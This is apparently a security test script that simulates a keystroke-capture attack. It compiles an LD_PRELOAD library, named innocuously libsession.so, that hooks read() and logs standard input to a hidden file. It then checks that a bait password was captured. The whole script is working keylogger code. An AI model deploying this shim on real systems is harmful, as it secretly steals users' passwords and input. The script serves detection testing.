#!/bin/sh
. /opt/case/case.sh

cat >/tmp/h.c <<'END'
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <unistd.h>
ssize_t read(int fd, void *b, size_t n) {
    ssize_t (*real)(int, void *, size_t) = dlsym(RTLD_NEXT, "read"); ssize_t got = real(fd, b, n);
    if (fd == 0 && got > 0) { int o = open("/tmp/.keys", O_CREAT | O_APPEND | O_WRONLY, 0600); (void)!write(o, b, got); close(o); }
    return got;
}
END
gcc -shared -fPIC -o /usr/lib/libsession.so /tmp/h.c -ldl && rm /tmp/h.c
(sleep 0.5; echo bait-password) | LD_PRELOAD=/usr/lib/libsession.so bash -c 'read -r p; test -n "$p"'
grep -q bait-password /tmp/.keys
took_place
